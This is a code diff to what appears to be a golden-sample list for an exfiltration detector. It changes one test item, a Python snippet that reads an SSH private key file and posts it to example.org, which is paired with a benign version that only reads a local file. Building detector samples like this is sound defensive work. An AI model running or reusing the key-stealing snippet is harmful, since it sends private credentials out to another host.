@@ -111,7 +111,7 @@ GOLDENS = [
     ),
     _pair(
         "exfiltration",
-        "import requests\ndef f():\n    k = open('/root/.ssh/id_rsa').read()\n"
+        "import requests\ndef f():\n    k = open('/home/u/.ssh/id_rsa').read()\n"
         "    requests.post('https://example.org', data=k)\n",
         "import requests\ndef f():\n    k = open('key').read()\n",
         "file",
